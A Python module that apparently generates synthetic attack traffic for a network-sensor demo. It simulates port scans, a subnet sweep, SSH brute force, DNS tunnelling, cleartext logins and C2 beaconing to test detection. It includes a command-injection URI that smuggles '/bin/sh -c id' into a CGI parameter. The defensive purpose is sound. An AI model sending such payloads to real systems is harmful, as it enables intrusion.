"""The attacks hidden in the demo capture, each at a fixed point of its timeline."""

from __future__ import annotations

import base64
from collections.abc import Iterator

from sensors.demo import dns, http, network, protocol, wire
from sensors.demo.network import SERVER_NET, SERVERS, Session
from sensors.demo.scenario import (
    RESOLVER,
    SECOND_US,
    Context,
    Scenario,
    dns_lookup,
    forward_query,
    http_exchange,
    udp_exchange,
)
from sensors.demo.tcp import connect
from sensors.demo.traffic import syslog_line

SCANNER = "203.0.113.66"
SCAN_TARGET = network.server("app01")
OPEN_PORTS = frozenset({22, 80, 443, 8080})
# The ports nmap tries first, then random ones up to 200.
COMMON_PORTS = tuple(
    int(port)
    for port in """
    21 22 23 25 53 80 81 88 110 111 135 139 143 389 443 445 465 514 587 631 636 873 993 995
    1080 1433 1521 1723 2049 2375 3000 3128 3306 3389 5000 5060 5432 5601 5900 5985 6379
    6443 7001 8000 8008 8080 8081 8443 8888 9000 9090 9200 9300 10000 11211 27017
    """.split()
)
BRUTE_FORCER = "198.51.100.23"
BASTION = network.server("bastion")
INTRANET = network.server("intranet")
WEB = network.server("www")
MGMT = network.server("mgmt")
FILES = network.server("files")
MONITOR = network.server("mon01")
TEST_CLIENT = "10.10.20.105"
TUNNEL_CLIENT = "10.10.20.117"
TUNNEL_DOMAIN = "t.example.org"
FTP_CLIENT = "10.10.20.112"
BASIC_CLIENT = "10.10.20.108"
BEACON_CLIENT = "10.10.20.121"
BEACON_SERVER = "198.51.100.77"
EXPLOIT_URI = "/cgi-bin/diag.cgi?host=127.0.0.1;/bin/sh+-c+id"
EXPLOIT_UA = "PycURL/7.45.2 libcurl/7.88.1 OpenSSL/3.0.11 zlib/1.2.13"
ID_OUTPUT = b"uid=0(root) gid=0(root) groups=0(root)\n"


def _syn_probe(
    ctx: Context, target: str, ports: tuple[int, int], when: int, *, is_open: bool
) -> Session:
    """One SYN scan probe: RST/ACK from a closed port, SYN/ACK then RST from an open one."""
    rng = ctx.rng
    sport, port = ports
    seq = rng.getrandbits(32)
    syn = wire.tcp(
        SCANNER,
        target,
        ports,
        seq,
        0,
        wire.SYN,
        window=1024,
        options=wire.tcp_syn_options(wscale=None, sack=False),
    )
    frames = [(when, network.ip_frame(SCANNER, target, wire.PROTO_TCP, syn, rng.getrandbits(16)))]
    back = when + rng.randint(60, 300)
    if is_open:
        answer = wire.tcp(
            target,
            SCANNER,
            (port, sport),
            rng.getrandbits(32),
            seq + 1,
            wire.SYN | wire.ACK,
            window=64240,
            options=wire.tcp_syn_options(wscale=7),
        )
        reset = wire.tcp(SCANNER, target, ports, seq + 1, 0, wire.RST, window=0)
        frames.append((back + 45_000, network.ip_frame(SCANNER, target, wire.PROTO_TCP, reset, 0)))
    else:
        answer = wire.tcp(target, SCANNER, (port, sport), 0, seq + 1, wire.RST | wire.ACK, window=0)
    frames.insert(1, (back, network.ip_frame(target, SCANNER, wire.PROTO_TCP, answer, 0)))
    return frames


def _scan_ports(ctx: Context) -> Iterator[Session]:
    """203.0.113.66 SYN-scans about 200 ports of app01 from one source port."""
    rng = ctx.rng
    ports = list(COMMON_PORTS)
    while len(ports) < 200:
        candidate = rng.randint(1, 65535)
        if candidate not in ports:
            ports.append(candidate)
    rng.shuffle(ports)
    when, sport = ctx.at(0.15), rng.randint(40000, 65000)
    gap = min(100_000, ctx.span_us // 20 // len(ports))
    for port in ports:
        yield _syn_probe(ctx, SCAN_TARGET.ip, (sport, port), when, is_open=port in OPEN_PORTS)
        when += rng.randint(gap // 2, gap * 3 // 2)


def _sweep_subnet(ctx: Context) -> Iterator[Session]:
    """203.0.113.66 sends an ICMP echo and a SYN to 445 to every address of 10.10.1.0/24."""
    rng = ctx.rng
    live = {host.ip for host in SERVERS.values()} | {network.gateway_of(SCAN_TARGET.ip)}
    smb_servers = {FILES.ip, network.server("dc01").ip}
    when, sport = ctx.at(0.22), rng.randint(40000, 65000)
    gap = min(30_000, ctx.span_us // 40 // 254)
    for address in SERVER_NET.hosts():
        target = str(address)
        frames = [(when, network.icmp_frame(SCANNER, target, 8, 0x1F2E, 0, rng.getrandbits(16)))]
        if target in live:
            reply = network.icmp_frame(target, SCANNER, 0, 0x1F2E, 0, ctx.ids.take(target))
            frames.append((when + rng.randint(100, 400), reply))
            frames += _syn_probe(
                ctx, target, (sport, 445), when + 500, is_open=target in smb_servers
            )
        else:
            router = network.ROUTER_MAC
            who = network.arp_request(network.gateway_of(target), target, sender_mac=router)
            frames.append((when + rng.randint(50, 200), who))
            syn = wire.tcp(
                SCANNER,
                target,
                (sport, 445),
                rng.getrandbits(32),
                0,
                wire.SYN,
                window=1024,
                options=wire.tcp_syn_options(wscale=None, sack=False),
            )
            frames.append((when + 500, network.ip_frame(SCANNER, target, wire.PROTO_TCP, syn, 0)))
        yield sorted(frames, key=lambda frame: frame[0])
        when += rng.randint(gap // 2, gap * 3 // 2)


def _brute_force_ssh(ctx: Context) -> Iterator[Session]:
    """198.51.100.23 opens 40 short SSH sessions to the bastion within two minutes."""
    rng = ctx.rng
    when = ctx.at(0.40)
    gap = min(110 * SECOND_US, ctx.span_us // 10) // 40
    for _ in range(40):
        client = ctx.wan(BRUTE_FORCER)
        conn = connect(client, ctx.lan(BASTION.ip, 22), when, rng, ctx.ids)
        conn.send(False, protocol.ssh_banner("OpenSSH_9.2p1 Debian-2+deb12u3"))
        conn.send(True, protocol.ssh_banner("libssh_0.9.6"))
        conn.close(True, wait_us=rng.randint(5_000, 60_000))
        text = f"Connection closed by {BRUTE_FORCER} port {client.port} [preauth]"
        line = syslog_line("bastion", "sshd", text, conn.now / SECOND_US, rng.randint(9000, 30000))
        log = network.udp_frame(BASTION.ip, 514, MONITOR.ip, 514, line, ctx.ids.take(BASTION.ip))
        yield conn.frames + [(conn.now + rng.randint(200, 900), log)]
        when += rng.randint(gap * 3 // 4, gap * 5 // 4)


def _request_test_uri(ctx: Context) -> Iterator[Session]:
    """A workstation requests /spanwatch-test from the intranet server, once."""
    rng = ctx.rng
    frames = dns_lookup(ctx, TEST_CLIENT, INTRANET.name, INTRANET.ip, ctx.at(0.5))
    conn = connect(
        ctx.lan(TEST_CLIENT), ctx.lan(INTRANET.ip, 80), frames[-1][0] + 800, rng, ctx.ids
    )
    date = http.http_date(conn.now / SECOND_US)
    body = http.page("Not Found", rng, 300)
    http_exchange(
        conn,
        http.request("GET", INTRANET.name, "/spanwatch-test"),
        http.response(404, "Not Found", body, date=date),
        server_us=900,
    )
    conn.close(True, wait_us=rng.randint(200_000, 2_000_000))
    yield frames + conn.frames


def _exploit_web_server(ctx: Context) -> Iterator[Session]:
    """203.0.113.66 injects a shell command into a CGI on www and reads back `id` as root."""
    rng = ctx.rng
    conn = connect(ctx.wan(SCANNER), ctx.lan(WEB.ip, 80), ctx.at(0.58), rng, ctx.ids)
    request = http.request(
        "GET", WEB.name, EXPLOIT_URI, user_agent=EXPLOIT_UA, headers=(("Accept", "*/*"),)
    )
    reply = http.response(
        200,
        "OK",
        ID_OUTPUT,
        date=http.http_date(conn.now / SECOND_US),
        server="Apache/2.4.57 (Debian)",
        content_type="text/plain",
    )
    http_exchange(conn, request, reply, server_us=rng.randint(5_000, 20_000))
    conn.close(True)
    yield conn.frames


def _tunnel_over_dns(ctx: Context) -> Iterator[Session]:
    """A workstation sends 150 TXT queries with encoded data labels under t.example.org."""
    rng = ctx.rng
    when, tag = ctx.at(0.65), rng.randbytes(4).hex()
    gap = min(2 * SECOND_US, ctx.span_us * 15 // 100 // 150)
    for index in range(150):
        chunk = base64.b32encode(rng.randbytes(35)).decode().lower()
        name = f"{chunk}.{index:04x}{tag}.{TUNNEL_DOMAIN}"
        ident = rng.getrandbits(16)
        answer_text = base64.b32encode(rng.randbytes(20)).decode().lower()
        reply = dns.answer(ident, name, dns.TYPE_TXT, [dns.txt_record(answer_text)], ttl=0)
        upstream_rtt = rng.randint(20_000, 60_000)
        upstream = forward_query(ctx, name, dns.TYPE_TXT, reply, when + 300, upstream_rtt)
        local = udp_exchange(
            ctx,
            (TUNNEL_CLIENT, ctx.ports.take(TUNNEL_CLIENT)),
            (RESOLVER, 53),
            (dns.query(ident, name, dns.TYPE_TXT), reply),
            when,
            upstream_rtt + 900,
        )
        yield sorted(local + upstream, key=lambda frame: frame[0])
        when += rng.randint(gap // 2, gap * 3 // 2)


FTP_DIALOGUE = (
    (False, "220 (vsFTPd 3.0.5)"),
    (True, "USER jdoe"),
    (False, "331 Please specify the password."),
    (True, "PASS Winter2025!"),
    (False, "230 Login successful."),
    (True, "SYST"),
    (False, "215 UNIX Type: L8"),
    (True, "PWD"),
    (False, '257 "/home/jdoe" is the current directory'),
    (True, "QUIT"),
    (False, "221 Goodbye."),
)


def _log_in_over_ftp(ctx: Context) -> Iterator[Session]:
    """A workstation logs in to the file server's FTP service with a cleartext password."""
    rng = ctx.rng
    conn = connect(ctx.lan(FTP_CLIENT), ctx.lan(FILES.ip, 21), ctx.at(0.30), rng, ctx.ids)
    for from_client, line in FTP_DIALOGUE:
        wait = rng.randint(300_000, 2_500_000) if from_client else rng.randint(100, 2_000)
        conn.send(from_client, f"{line}\r\n".encode(), wait_us=wait)
    conn.close(False)
    yield conn.frames


def _log_in_with_basic_auth(ctx: Context) -> Iterator[Session]:
    """A workstation opens the management console with HTTP Basic credentials."""
    rng = ctx.rng
    frames = dns_lookup(ctx, BASIC_CLIENT, MGMT.name, MGMT.ip, ctx.at(0.33))
    conn = connect(ctx.lan(BASIC_CLIENT), ctx.lan(MGMT.ip, 80), frames[-1][0] + 700, rng, ctx.ids)
    token = base64.b64encode(b"admin:Passw0rd!").decode()
    request = http.request(
        "GET", MGMT.name, "/admin/", headers=(("Authorization", f"Basic {token}"),)
    )
    reply = http.response(
        200,
        "OK",
        http.page("Management console", rng, 4_000),
        date=http.http_date(conn.now / SECOND_US),
        server="lighttpd/1.4.69",
    )
    http_exchange(conn, request, reply, server_us=rng.randint(2_000, 9_000))
    conn.close(True, wait_us=rng.randint(1, 4) * SECOND_US)
    yield frames + conn.frames


def _beacon(ctx: Context) -> Iterator[Session]:
    """A workstation POSTs to 198.51.100.77 every 60 s with up to 2 s of jitter."""
    rng = ctx.rng
    when = ctx.start_us + rng.randint(5, 30) * SECOND_US
    while when < ctx.end_us:
        conn = connect(ctx.lan(BEACON_CLIENT), ctx.wan(BEACON_SERVER, 80), when, rng, ctx.ids)
        body = base64.b64encode(rng.randbytes(48))
        request = http.request(
            "POST",
            BEACON_SERVER,
            "/api/v1/checkin",
            body=body,
            user_agent="Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
            headers=(("Content-Type", "application/octet-stream"),),
        )
        reply = http.response(
            200,
            "OK",
            b'{"status":"ok","next":60}',
            server="nginx",
            date=http.http_date(conn.now / SECOND_US),
            content_type="application/json",
        )
        http_exchange(conn, request, reply, server_us=rng.randint(1_000, 5_000))
        conn.close(True)
        yield conn.frames
        when += 60 * SECOND_US + rng.randint(-2 * SECOND_US, 2 * SECOND_US)


ATTACKS: tuple[Scenario, ...] = (
    Scenario(
        "port_scan",
        True,
        SCANNER,
        SCAN_TARGET.ip,
        (
            "~200 SYNs from one source port to app01, RST/ACK from closed ports",
            "SYN/ACK then attacker RST on 22, 80, 443, 8080",
        ),
        _scan_ports,
    ),
    Scenario(
        "subnet_sweep",
        True,
        SCANNER,
        str(SERVER_NET),
        (
            "icmp echo and SYN to 445 for each of 254 addresses",
            "router ARP requests for unused addresses",
        ),
        _sweep_subnet,
    ),
    Scenario(
        "ssh_brute_force",
        True,
        BRUTE_FORCER,
        BASTION.ip,
        (
            "40 short ssh flows in under two minutes, client banner libssh_0.9.6",
            "sshd [preauth] syslog lines to mon01",
        ),
        _brute_force_ssh,
    ),
    Scenario(
        "test_request",
        True,
        TEST_CLIENT,
        INTRANET.ip,
        ("alert sid 9000001 'SPANWATCH TEST HTTP request to /spanwatch-test' exactly once",),
        _request_test_uri,
    ),
    Scenario(
        "web_exploit",
        True,
        SCANNER,
        WEB.ip,
        (
            "ET 2011465 /bin/sh in URI",
            "ET 2013053 PyCurl user agent inbound",
            "GPL 2100498 id check returned root",
        ),
        _exploit_web_server,
    ),
    Scenario(
        "dns_tunnel",
        True,
        TUNNEL_CLIENT,
        TUNNEL_DOMAIN,
        (
            "150 TXT queries with 56-character base32 labels under t.example.org",
            "resolver forwards each to 198.51.100.53",
        ),
        _tunnel_over_dns,
    ),
    Scenario(
        "ftp_cleartext_login",
        True,
        FTP_CLIENT,
        FILES.ip,
        ("ftp USER jdoe / PASS in cleartext",),
        _log_in_over_ftp,
    ),
    Scenario(
        "http_basic_auth",
        True,
        BASIC_CLIENT,
        MGMT.ip,
        ("http Authorization: Basic to mgmt.gov.example",),
        _log_in_with_basic_auth,
    ),
    Scenario(
        "beacon",
        True,
        BEACON_CLIENT,
        BEACON_SERVER,
        ("http POST /api/v1/checkin to a bare IP every 60 s +/- 2 s",),
        _beacon,
    ),
)
